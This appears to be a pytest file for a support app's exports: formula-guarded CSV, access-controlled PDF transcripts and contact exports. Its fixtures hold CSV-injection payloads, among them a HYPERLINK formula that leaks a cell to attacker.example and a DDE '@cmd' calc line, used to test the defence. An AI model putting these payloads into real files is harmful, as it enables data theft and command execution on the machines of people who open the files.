"""Exports a spreadsheet can open safely (CSV cells that would run as formulas are quoted), a
conversation's transcript as PDF, and a contact's conversations exported from the contact's page."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from flask import Flask

from models.db import Database
from tests.support.actors import Agent, make_user
from tests.support.reports import PERIOD, History, at, team_id

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
SPAN = f"from={PERIOD['from']}&to={PERIOD['to']}"


@pytest.fixture
def scene(app: Flask, db: Database) -> dict[str, Any]:
    make_user(db, "ada@example.com", team="Support")
    make_user(db, "sam@example.com", role="supervisor", team="Support")
    make_user(db, "root@example.com", role="admin", team="HQ")
    support = team_id(db, "Support")
    evil = (History(db, support, at(9)).customer(at(9), FORMULA).bot(at(9, 0, 5), "billing")
            .customer(at(9, 1), "+1 555 0100").customer(at(9, 2), "@SUM(1,2)").customer(at(9, 3), "-2+3")
            .close(at(9, 30)))
    plotter = team_id(db, "@cmd|' /C calc'!A0")
    History(db, plotter, at(10)).customer(at(10)).bot(at(10, 0, 5), "hours").close(at(10, 5))
    return {"evil": evil, "support": support, "plotter": plotter}


def test_export_csv_quotes_cells_a_spreadsheet_would_run(app: Flask, scene: dict[str, Any]) -> None:
    sam = Agent(app, "sam@example.com")
    r = sam.client.get(f"/api/v1/exports/conversations?format=csv&{SPAN}")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    texts = [x["text"] for x in rows if x["record"] == "message" and x["sender"] == "contact"
             and x["conversation"] == scene["evil"].public_id]
    assert texts == ["'" + FORMULA, "'+1 555 0100", "'@SUM(1,2)", "'-2+3"]
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for x in rows for v in x.values() if v)
    # JSON Lines is not a spreadsheet format: the text is exported as written.
    r = sam.client.get(f"/api/v1/exports/conversations?format=jsonl&{SPAN}")
    assert FORMULA.replace('"', '\\"') in r.get_data(as_text=True)


def test_report_csv_quotes_labels_a_spreadsheet_would_run(app: Flask, scene: dict[str, Any]) -> None:
    r = Agent(app, "root@example.com").client.get(f"/api/v1/reports/live?format=csv&group_by=team&{SPAN}")
    assert r.status_code == 200
    rows = {x["label"]: x for x in csv.DictReader(io.StringIO(r.get_data(as_text=True)))}
    assert rows["'@cmd|' /C calc'!A0"]["started"] == "1"
    assert rows["Support"]["started"] == "1"


def _pdf_text(body: bytes) -> str:
    from pypdf import PdfReader

    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


def test_transcript_as_pdf_with_non_latin_text_only_for_who_may_see(app: Flask, db: Database) -> None:
    ada = make_user(db, "ada@example.com", team="Support")
    make_user(db, "sam@example.com", role="supervisor", team="Support")
    support = team_id(db, "Support")
    conv = (History(db, support, at(9)).customer(at(9), "Здравствуйте, где мой заказ?").bot(at(9, 0, 5), "shipping")
            .handoff(at(9, 1)).assign(at(9, 2), ada).note(at(9, 3), ada, "secret note")
            .reply(at(9, 4), ada, "Καλημέρα! Il arrive demain.").close(at(9, 30)))
    sam = Agent(app, "sam@example.com")
    r = sam.client.get(f"/api/v1/conversations/{conv.public_id}/transcript?format=pdf")
    assert r.status_code == 200 and r.mimetype == "application/pdf"
    assert r.data.startswith(b"%PDF-")
    text = _pdf_text(r.data)
    assert "Здравствуйте, где мой заказ?" in text and "Καλημέρα! Il arrive demain." in text
    assert f"Conversation {conv.public_id}" in text and "secret note" not in text
    assert "secret note" in _pdf_text(sam.client.get(
        f"/api/v1/conversations/{conv.public_id}/transcript?format=pdf&notes=true").data)
    assert sam.client.get(f"/api/v1/conversations/{conv.public_id}/transcript?format=doc").status_code == 400
    restricted = (History(db, support, at(10)).customer(at(10), "private matter").bot(at(10, 0, 5), "billing")
                  .handoff(at(10, 1)).assign(at(10, 2), ada).close(at(10, 30)).restrict(ada))
    assert sam.client.get(f"/api/v1/conversations/{restricted.public_id}/transcript?format=pdf").status_code == 404
    mine = Agent(app, "ada@example.com").client.get(
        f"/api/v1/conversations/{restricted.public_id}/transcript?format=pdf")
    assert mine.status_code == 200 and "private matter" in _pdf_text(mine.data)


def test_a_contacts_conversations_export_from_their_journey(app: Flask, db: Database) -> None:
    ada = make_user(db, "ada@example.com", team="Support")
    make_user(db, "sam@example.com", role="supervisor", team="Support")
    support, sales = team_id(db, "Support"), team_id(db, "Sales")
    first = (History(db, support, at(9)).customer(at(9), "my parcel is late").bot(at(9, 0, 5), "shipping")
             .close(at(9, 5)))
    contact = first.contact_id
    second = (History(db, support, at(30), channel="sms", contact_id=contact).customer(at(30), "=1+1")
              .bot(at(30, 0, 5), "billing").handoff(at(30, 1)).assign(at(30, 2), ada)
              .note(at(30, 2, 30), ada, "staff only remark").reply(at(30, 3), ada, "refund sent").close(at(30, 9)))
    elsewhere = History(db, sales, at(40), contact_id=contact).customer(at(40), "a quote please").close(at(40, 9))
    History(db, support, at(41)).customer(at(41), "someone else").close(at(41, 5))
    ada_client = Agent(app, "ada@example.com").client
    r = ada_client.get(f"/api/v1/contacts/{contact}/export?format=jsonl")
    assert r.status_code == 200 and r.mimetype == "application/x-ndjson"
    items = [json.loads(line) for line in r.get_data(as_text=True).splitlines()]
    assert [i["public_id"] for i in items] == [first.public_id, second.public_id]  # not Sales' one
    assert [m["text"] for m in items[1]["messages"]] == ["=1+1", "bot answer", "refund sent"]
    r = ada_client.get(f"/api/v1/contacts/{contact}/export")  # csv by default, formula-guarded
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert r.mimetype == "text/csv" and {x["conversation"] for x in rows} == {first.public_id, second.public_id}
    assert "'=1+1" in [x["text"] for x in rows] and "a quote please" not in r.get_data(as_text=True)
    make_user(db, "root@example.com", role="admin", team="HQ")
    admin = Agent(app, "root@example.com").client
    every = admin.get(f"/api/v1/contacts/{contact}/export?format=jsonl").get_data(as_text=True)
    assert elsewhere.public_id in every and "someone else" not in every
    assert "staff only remark" in every and "staff only remark" not in r.get_data(as_text=True)  # notes: staff
    assert ada_client.get(f"/api/v1/contacts/{contact}/export?format=xml").status_code == 400
    assert ada_client.get("/api/v1/contacts/999999/export").status_code == 404
    # A restricted conversation makes its contact confidential: only the people named on it export it.
    History(db, support, at(50), contact_id=contact).customer(at(50), "between us").close(at(50, 9)).restrict(ada)
    assert Agent(app, "sam@example.com").client.get(f"/api/v1/contacts/{contact}/export").status_code == 404
    assert "between us" in ada_client.get(f"/api/v1/contacts/{contact}/export").get_data(as_text=True)


def test_the_bots_first_intent_is_recorded_as_it_answers(app: Flask, db: Database) -> None:
    """Through the real bot path: the reports group a conversation by the intent of the bot's first answer,
    stored as the bot sends it (later answers do not change it)."""
    from sqlalchemy import select

    from models.schema.conversations import Conversation
    from tests.support.actors import Customer

    make_user(db, "root@example.com", role="admin", team="Support")
    customer = Customer(app)
    public_id = customer.say("hello there")["conversation_id"]
    customer.say("where is my order?")
    with db.session() as s:
        conv = s.scalar(select(Conversation).where(Conversation.public_id == public_id))
        assert conv is not None and conv.first_intent == "greet" and conv.bot_first_at is not None
    report = Agent(app, "root@example.com").client.get("/api/v1/reports/bot?group_by=intent").get_json()
    rows = {r["label"]: r for r in report["rows"]}
    assert rows["greet"]["conversations"] == 1 and "order_status" not in rows
    assert rows["greet"]["answers"] == 2
